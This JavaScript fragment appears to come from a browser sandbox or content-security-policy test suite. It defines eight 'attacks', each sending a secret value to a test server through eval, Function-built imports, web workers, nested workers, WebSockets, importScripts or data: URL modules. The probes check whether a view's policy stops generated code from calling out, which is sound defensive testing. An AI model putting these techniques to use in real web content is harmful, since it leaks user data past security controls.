// A view that may make code of text: what that code does has the policy of the view.
const to = (what) => `${setup.http}/${what}?d=${secret()}`;
const worker = (code) => {
  const made = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  return new Promise((done) => (made.onmessage = done, made.onerror = done));
};
const told = ".then(() => postMessage(1), () => postMessage(0))";

attacks["eval-fetch"] = () => (0, eval)(`fetch(${JSON.stringify(to("eval"))}, { mode: "no-cors" })`);
attacks["function-import"] = () => new Function("url", "return import(url)")(to("function.js"));
attacks["worker-fetch"] = () => worker(`fetch(${JSON.stringify(to("worker"))}, { mode: "no-cors" })${told}`);
attacks["worker-socket"] = () => {
  const url = to("socket").replace("http", "ws");
  return worker(`new WebSocket(${JSON.stringify(url)}); setTimeout(() => postMessage(1), 300)`);
};
attacks["worker-imports"] = () => worker(`importScripts(${JSON.stringify(to("imported.js"))})`);
attacks["worker-in-worker"] = () => {
  const inner = `fetch(${JSON.stringify(to("inner"))}, { mode: "no-cors" })`;
  const address = `URL.createObjectURL(new Blob([${JSON.stringify(inner)}], { type: "text/javascript" }))`;
  return worker(`new Worker(${address}); setTimeout(() => postMessage(1), 500)`);
};
attacks["data-module-fetch"] = () => {
  const code = `await fetch(${JSON.stringify(to("data"))}, { mode: "no-cors" })`;
  return import("data:text/javascript," + encodeURIComponent(code));
};
attacks["data-module-import"] = () => {
  return import("data:text/javascript," + encodeURIComponent(`import ${JSON.stringify(to("module.js"))}`));
};
